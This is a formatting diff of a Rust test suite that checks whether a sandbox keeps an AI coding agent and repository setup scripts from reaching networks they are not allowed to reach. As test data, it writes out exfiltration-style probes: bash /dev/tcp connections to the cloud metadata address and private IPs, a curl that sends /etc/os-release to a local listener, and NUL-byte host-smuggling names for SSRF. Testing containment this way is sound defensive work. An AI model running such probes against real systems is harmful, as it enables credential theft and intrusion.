@@ -1,5 +1,5 @@
-//! An agent and a repository's own programs are turned against networks: what they may not reach hears nothing behind the walls, and hears
-//! them without.
+//! An agent and a repository's own programs are turned against networks: what they may not reach
+//! hears nothing behind the walls, and hears them without.
 
 use std::net::UdpSocket;
 use std::path::Path;
@@ -33,7 +33,9 @@ async fn no_address_is_reached() {
         // Only behind the walls: these addresses are not this test's to knock at.
         if walls {
             for address in ["169.254.169.254/80", "192.168.1.1/80", "10.0.0.1/22", "1.1.1.1/53"] {
-                script.push_str(&format!("bash -c 'echo x > /dev/tcp/{address}' && echo {address} >> \"$LOOT\"\n"));
+                script.push_str(&format!(
+                    "bash -c 'echo x > /dev/tcp/{address}' && echo {address} >> \"$LOOT\"\n"
+                ));
             }
             script.push_str("getent hosts example.com >> \"$LOOT\"\n");
         }
@@ -72,7 +74,8 @@ async fn the_models_server_is_asked_for_inference_and_nothing_else() {
     }
 }
 
-/// Asks the proxy for names that lead to this machine: its own, in numbers, with a NUL before what makes it look like another.
+/// Asks the proxy for names that lead to this machine: its own, in numbers, with a NUL before what
+/// makes it look like another.
 const NAMES: &str = r#"
 import socket
 for name in ['localhost', '2130706433', '127.1', '[::ffff:127.0.0.1]', '127.0.0.1\0.crates.io', 'crates.io\0@127.0.0.1']:
@@ -95,7 +98,8 @@ async fn a_setup_that_may_fetch_reaches_no_private_address() {
         let (port, heard) = ear();
         let loot = world.stage().join("loot");
         let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\ntest = \"\"\n";
-        let settings = format!("[checks]\n{nothing}setup = \"sh setup.sh\"\nsetup_network = {network}\n");
+        let settings =
+            format!("[checks]\n{nothing}setup = \"sh setup.sh\"\nsetup_network = {network}\n");
         let setup = format!(
             "curl -s -m 2 telnet://127.0.0.1:{port} </etc/os-release\n\
              for url in http://169.254.169.254/latest http://127.0.0.1 http://localhost http://[::1]/ http://0x7f000001/; do\n\
@@ -111,7 +115,11 @@ async fn a_setup_that_may_fetch_reaches_no_private_address() {
         world.forge.repository("owner/repo", "main", &files);
         world.task("Add a greeting", "").await;
         assert_eq!(world.work().await.code, Some(0));
-        assert_eq!(heard.recv_timeout(Duration::from_millis(500)).is_ok(), !walls, "walls: {walls}");
+        assert_eq!(
+            heard.recv_timeout(Duration::from_millis(500)).is_ok(),
+            !walls,
+            "walls: {walls}"
+        );
         if walls {
             let loot = read(&loot);
             let codes: Vec<&str> = loot.split_whitespace().take(5).collect();
@@ -129,7 +137,8 @@ fn read(path: &Path) -> String {
     String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned()
 }
 
-/// A hosted model is reached by HTTPS, by whose certificate the relay knows it; what is inside needs none and gets no other host.
+/// A hosted model is reached by HTTPS, by whose certificate the relay knows it; what is inside
+/// needs none and gets no other host.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_hosted_model_is_reached_by_https_and_by_its_name_alone() {
     for name in ["localhost", "another.example"] {
@@ -137,11 +146,16 @@ async fn a_hosted_model_is_reached_by_https_and_by_its_name_alone() {
         let mut scene = Scene::new(true).await;
         let file = scene.loot_file();
         let ask = "curl -s -d '{}' -H 'authorization: Bearer key-of-the-model' $OPENAI_BASE_URL/chat/completions";
-        scene.world.agent(&format!("{ask} -w ' %{{http_code}}\\n' >> '{}'; {COVER}", file.display()));
-        scene.world.set("agent", json!({ "model_endpoint": format!("https://localhost:{port}/v1") }));
+        scene
+            .world
+            .agent(&format!("{ask} -w ' %{{http_code}}\\n' >> '{}'; {COVER}", file.display()));
+        scene
+            .world
+            .set("agent", json!({ "model_endpoint": format!("https://localhost:{port}/v1") }));
         let certificate = scene.world.path().join("authority.pem");
         std::fs::write(&certificate, authority).unwrap();
-        let environment = [("GITHUB_TOKEN", TOKEN), ("SSL_CERT_FILE", certificate.to_str().unwrap())];
+        let environment =
+            [("GITHUB_TOKEN", TOKEN), ("SSL_CERT_FILE", certificate.to_str().unwrap())];
         let ran = scene.world.run_with(&["worker", "--once"], &environment).await;
         assert_eq!(ran.code, Some(0), "{ran:?}");
         scene.check_kept(&ran);
@@ -159,11 +173,14 @@ async fn a_hosted_model_is_reached_by_https_and_by_its_name_alone() {
 
 type Asked = Arc<Mutex<Vec<String>>>;
 
-/// A model's server with a certificate for `name`: its port, who signed that, and what it was asked.
+/// A model's server with a certificate for `name`: its port, who signed that, and what it was
+/// asked.
 async fn hosted_model(name: &str) -> (u16, String, Asked) {
     let certified = rcgen::generate_simple_self_signed([name.to_owned()]).unwrap();
     let key = PrivateKeyDer::try_from(certified.signing_key.serialize_der()).unwrap();
-    let tls = ServerConfig::builder().with_no_client_auth().with_single_cert(vec![certified.cert.der().clone()], key);
+    let tls = ServerConfig::builder()
+        .with_no_client_auth()
+        .with_single_cert(vec![certified.cert.der().clone()], key);
     let listener = Tls {
         tcp: tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap(),
         acceptor: TlsAcceptor::from(Arc::new(tls.unwrap())),
@@ -171,7 +188,10 @@ async fn hosted_model(name: &str) -> (u16, String, Asked) {
     let port = listener.tcp.local_addr().unwrap().port();
     let asked = Asked::default();
     let answer = async |State(asked): State<Asked>, uri: Uri, headers: HeaderMap, body: String| {
-        asked.lock().unwrap().push(format!("{uri} {} {body}", headers["authorization"].to_str().unwrap()));
+        asked
+            .lock()
+            .unwrap()
+            .push(format!("{uri} {} {body}", headers["authorization"].to_str().unwrap()));
         "an answer"
     };
     let router = Router::new().fallback(answer).with_state(Arc::clone(&asked));
